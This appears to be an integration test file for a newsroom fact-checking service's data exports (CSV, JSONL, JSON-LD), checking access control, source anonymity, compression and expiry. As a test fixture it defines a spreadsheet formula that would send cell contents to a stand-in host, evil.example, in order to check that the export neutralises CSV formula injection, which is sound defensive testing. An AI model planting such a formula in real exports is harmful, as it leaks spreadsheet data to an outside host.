import { gunzipSync } from 'node:zlib';
import { parse } from 'csv-parse/sync';
import type { ClaimReview, DataFeed, DataFeedItem, WithContext } from 'schema-dts';
import { checkClaimReview } from '../../src/core/claim-review/check-claim-review.js';
import type { ClaimReviewDocument } from '../../src/core/claim-review/model.js';
import { emptyExpiredExports } from '../../src/integrations/exports/empty-expired-exports.js';
import { unguardCell } from '../../src/integrations/exports/guard-cell.js';
import { proposeFor, submitClaims, versionOf } from '../desk/claim-in-review.js';
import { Desk, type Person } from '../desk/desk.js';
import * as document from '../desk/documents.js';
import { addReadyArticle, addTasks } from '../kit/row-builders.js';
import { download, EXPORT, exported, START } from './export-client.js';

const FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"read")';
const ARABIC = 'قال "الوزير"،\nثم مضى';

let desk: Desk;
let admin: Person;
let editor: Person;
let viewer: Person;
let machine: Person;
let published: { id: string; url: string; claimReview: ClaimReviewDocument };

beforeAll(async () => {
  desk = await Desk.start();
  [admin, editor, viewer] = [await desk.join('ADMIN'), await desk.join('EDITOR'), await desk.join('VIEWER')];
  machine = await desk.machine();
  const input = { publicName: 'The Public Paper' };
  await admin.ask('mutation ($input: UpdateNewsroomInput!) { updateNewsroom(input: $input) { id } }', { input });
  const [checker, reviewer] = [await desk.join('FACT_CHECKER'), await desk.join('REVIEWER')];
  const publish = async (text: string) => {
    const [, [id]] = await submitClaims(desk, checker, text);
    await proposeFor(checker, id!);
    await reviewer.ask(document.APPROVE, { input: { taskId: id, expectedVersion: await versionOf(checker, id!) } });
    return (await editor.ask(document.PUBLISH, { id })).publishFactCheck;
  };
  published = await publish('Grain exports rose by 12 percent in 2025, the ministry of trade said on Monday.');
  const retracted = await publish('The northern mill paid 4 million dollars for flour in 2024, Omar Haddad said.');
  const correction = { class: 'RETRACTION', publicNote: 'Wrong mill.', expectedVersion: 1 };
  await editor.ask(document.CORRECT, { input: { factCheckId: retracted.id, ...correction } });
  await reviewer.ask(document.APPROVE_CORRECTION, { id: retracted.id, version: 1 });
  const articleId = await addReadyArticle(desk.newsroom.handle, {
    title: FORMULA,
    sourceUrl: 'https://paper.example/',
  });
  await addTasks(desk.newsroom.handle, articleId, [
    { text: ARABIC, kind: 'QUOTE', speaker: '@handle' },
    { text: '-1 is negative', speaker: 'a senior official', anonymous: true },
    { text: "'quoted at its start", stance: 'DENIED', speaker: 'The denier' },
  ]);
});

afterAll(() => desk.close());

async function fileOf(person: Person, input: object): Promise<string> {
  const { url, status } = await exported(person, input);
  expect(status).toBe('READY');
  const { status: code, body } = await download(url, person.key);
  expect(code).toBe(200);
  return body.toString('utf8');
}

const listed = async (query: string): Promise<string[]> =>
  (await admin.ask(`{ list: ${query} { nodes { id } } }`)).list.nodes.map(({ id }: { id: string }) => id).sort();

const LISTS = {
  TASKS: 'reviewTasks(first: 100)',
  FACT_CHECKS: 'factChecks(first: 100)',
  AUDIT: 'auditEvents(first: 100, filter: { until: "2099-01-01T00:00:00Z" })',
};

const rowsOf = (csv: string) => parse(csv, { columns: true, bom: true }) as Record<string, string>[];
const linesOf = (jsonl: string) =>
  jsonl
    .trimEnd()
    .split('\n')
    .map((line) => JSON.parse(line));
const itemsOf = (feed: string) => JSON.parse(feed).dataFeedElement.map(({ item }: { item: object[] }) => item[0]);

describe.each(['TASKS', 'FACT_CHECKS', 'AUDIT'] as const)('an export of %s', (kind) => {
  it('has each row of the list once, in every format', async () => {
    // The audit tells of exports, too: those of its own beginning and after are left out.
    const until = new Date().toISOString();
    const filter = kind === 'AUDIT' ? { auditFilter: { until } } : {};
    const list = LISTS[kind].replace('2099-01-01T00:00:00Z', until);
    const ids = await listed(list);
    expect(ids.length).toBeGreaterThan(1);
    const csv = rowsOf(await fileOf(admin, { kind, format: 'CSV', ...filter }));
    expect(csv.map(({ id }) => id).sort()).toEqual(ids);
    const lines = linesOf(await fileOf(admin, { kind, format: 'JSONL', ...filter }));
    expect(lines.map(({ id }) => id).sort()).toEqual(ids);
    const items = itemsOf(await fileOf(admin, { kind, format: 'JSONLD', ...filter }));
    if (kind === 'FACT_CHECKS') expect(items).toEqual([published.claimReview]);
    else expect(items.map((item: { '@id': string }) => item['@id'].replace('urn:uuid:', '')).sort()).toEqual(ids);
  });

  it('is a table without rows, no line, and a feed without elements where nothing is found', async () => {
    const filters = {
      TASKS: { taskFilter: { text: 'nowhere' } },
      FACT_CHECKS: { factCheckFilter: { text: 'nowhere' } },
      AUDIT: { auditFilter: { action: ['NOTHING'] } },
    };
    expect(rowsOf(await fileOf(admin, { kind, format: 'CSV', ...filters[kind] }))).toEqual([]);
    expect(await fileOf(admin, { kind, format: 'JSONL', ...filters[kind] })).toBe('');
    expect(itemsOf(await fileOf(admin, { kind, format: 'JSONLD', ...filters[kind] }))).toEqual([]);
  });
});

it('writes tables as RFC 4180 has them, and no formula', async () => {
  const csv = await fileOf(viewer, { kind: 'TASKS', format: 'CSV' });
  expect(csv.split('\r\n').length).toBeGreaterThan(4);
  const rows = rowsOf(csv);
  for (const row of rows) for (const cell of Object.values(row)) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
  const row = (text: string) => rows.find((each) => unguardCell(each.text!) === text)!;
  expect(row(ARABIC)).toMatchObject({ articleTitle: `'${FORMULA}`, speaker: "'@handle", kind: 'QUOTE' });
  expect(row('-1 is negative').text).toBe("'-1 is negative");
  expect(row("'quoted at its start").text).toBe("'quoted at its start");
});

it('begins a table with a byte order mark where that is asked for', async () => {
  const plain = await fileOf(viewer, { kind: 'TASKS', format: 'CSV' });
  const marked = await fileOf(viewer, { kind: 'TASKS', format: 'CSV', byteOrderMark: true });
  expect(marked).toBe(`\ufeff${plain}`);
});

it('names no unnamed source, and nobody who denies a claim as its author', async () => {
  const lines = linesOf(await fileOf(viewer, { kind: 'TASKS', format: 'JSONL' }));
  const unnamed = lines.find(({ unnamedSource }) => unnamedSource === 'a senior official');
  expect(unnamed.speaker).toBeNull();
  const feed = await fileOf(viewer, { kind: 'TASKS', format: 'JSONLD' });
  expect(feed).not.toContain('a senior official');
  expect(feed).not.toContain('The denier');
  expect(feed).toContain('"spokenByCharacter":{"@type":"Organization","name":"@handle"}');
});

it("writes fact-checks as a feed that schema.org's types and the service's own checks accept", async () => {
  const feed: WithContext<DataFeed> = JSON.parse(await fileOf(viewer, { kind: 'FACT_CHECKS', format: 'JSONLD' }));
  const [element] = feed.dataFeedElement as DataFeedItem[];
  const [review] = (element as unknown as { item: ClaimReviewDocument[] }).item;
  // Does not compile where what the service writes is not what schema.org describes.
  const typed: ClaimReview = review!;
  expect(typed).toMatchObject({ '@type': 'ClaimReview', url: published.url });
  const faults = checkClaimReview(review!, { pageUrl: published.url, ratingLabels: ['False'], notClaimants: [] });
  expect(faults).toEqual([]);
});

it('tells what a fact-check is in a row, the retracted one too', async () => {
  const lines = linesOf(await fileOf(machine, { kind: 'FACT_CHECKS', format: 'JSONL' }));
  expect(lines.find(({ id }) => id === published.id)).toMatchObject({
    ...{ type: 'FactCheck', url: published.url, rating: 'FALSE', ratingLabel: 'False', status: 'PUBLISHED' },
    publisher: 'The Public Paper',
    claimReview: published.claimReview,
  });
  expect(lines.find(({ id }) => id !== published.id)).toMatchObject({ status: 'RETRACTED', claimReview: null });
});

it('exports what the filter of the list finds', async () => {
  const taskFilter = { kind: 'CLAIM', text: 'GRAIN', updatedAfter: '2020-01-01T00:00:00Z', status: ['PUBLISHED'] };
  const lines = linesOf(await fileOf(viewer, { kind: 'TASKS', format: 'JSONL', taskFilter }));
  expect(lines.map(({ factCheckUrl }) => factCheckUrl)).toEqual([published.url]);
  const wrong = await viewer.failure(START, { input: { kind: 'AUDIT', format: 'CSV', taskFilter } });
  expect(wrong.extensions.code).toBe('FORBIDDEN');
  const other = await viewer.failure(START, { input: { kind: 'FACT_CHECKS', format: 'CSV', taskFilter } });
  expect(other.extensions).toMatchObject({ code: 'BAD_USER_INPUT', fields: { taskFilter: 'is not for FACT_CHECKS' } });
});

describe('The download', () => {
  let ready: { id: string; url: string; bytes: number };

  beforeAll(async () => {
    ready = await exported(admin, { kind: 'AUDIT', format: 'CSV' });
  });

  it('is saved under a name, shown nowhere and kept by no cache', async () => {
    const { headers, body } = await download(ready.url, admin.key);
    expect(headers).toMatchObject({
      'content-type': 'text/csv; charset=utf-8; header=present',
      'content-disposition': expect.stringMatching(/^attachment; filename="audit-\d{4}-\d\d-\d\d\.csv"$/),
      'cache-control': 'private, no-store',
      'content-length': String(ready.bytes),
      'x-content-type-options': 'nosniff',
    });
    expect(body.length).toBe(ready.bytes);
  });

  it('is packed where the client says that it unpacks', async () => {
    const plain = await download(ready.url, admin.key);
    const packed = await download(ready.url, admin.key, { 'accept-encoding': 'gzip, br' });
    expect(plain.headers['content-encoding']).toBeUndefined();
    expect(packed.headers['content-encoding']).toBe('gzip');
    expect(packed.body.length).toBeLessThan(plain.body.length);
    expect(gunzipSync(packed.body)).toEqual(plain.body);
  });

  it('is nothing to anybody else', async () => {
    const stranger = await (await desk.otherNewsroom()).member('ADMIN');
    const codes = [
      (await download(ready.url)).status,
      (await download(ready.url, stranger.key)).status,
      // An EDITOR reads the audit page by page, but takes no copy of all of it.
      (await download(ready.url, editor.key)).status,
      (await download(`${desk.app.url}/exports/none`, admin.key)).status,
    ];
    expect(codes).toEqual([401, 404, 404, 404]);
    expect((await editor.ask(EXPORT, { id: ready.id })).export.url).toBeNull();
    const { body } = await desk.app.graphql(EXPORT, { id: ready.id }, stranger.key);
    expect(body.data.export).toBeNull();
  });

  it('ends with its time, and the parts with it', async () => {
    const { id, url } = await exported(viewer, { kind: 'TASKS', format: 'JSONL' });
    const another = await exported(viewer, { kind: 'TASKS', format: 'JSONL' });
    await desk.database.owner(`update exports set expires_at = now() - interval '1 second' where id = $1`, [id]);
    expect(await emptyExpiredExports(desk.database.app)).toBe(1);
    expect(await emptyExpiredExports(desk.database.app)).toBe(0);
    const parts = await desk.database.owner('select from export_parts where export_id = $1', [id]);
    expect(parts).toHaveLength(0);
    expect((await viewer.ask(EXPORT, { id })).export).toMatchObject({ status: 'EXPIRED', url: null });
    const { status, body } = await download(url, viewer.key);
    expect([status, JSON.parse(body.toString()).code]).toEqual([409, 'CONFLICT']);
    expect((await download(another.url, viewer.key)).status).toBe(200);
  });
});

it('lists exports newest first, and records who started them', async () => {
  const { id } = await exported(editor, { kind: 'FACT_CHECKS', format: 'CSV' });
  const { exports: list } = await viewer.ask(
    '{ exports(first: 2) { nodes { id member { id } } totalCount pageInfo { endCursor } } }',
  );
  expect(list.nodes[0]).toEqual({ id, member: { id: editor.id } });
  const next = await viewer.ask('query ($after: String) { exports(first: 1, after: $after) { nodes { id } } }', {
    after: list.pageInfo.endCursor,
  });
  expect(next.exports.nodes[0].id < list.nodes[1].id).toBe(true);
  const filter = { action: ['EXPORT_STARTED'], memberId: editor.id };
  const { auditEvents } = await editor.ask(
    'query ($filter: AuditEventFilter) { auditEvents(filter: $filter) { nodes { ... on NewsroomEvent { subjectId data } } } }',
    { filter },
  );
  expect(auditEvents.nodes[0]).toEqual({ subjectId: id, data: { kind: 'FACT_CHECKS', format: 'CSV' } });
});
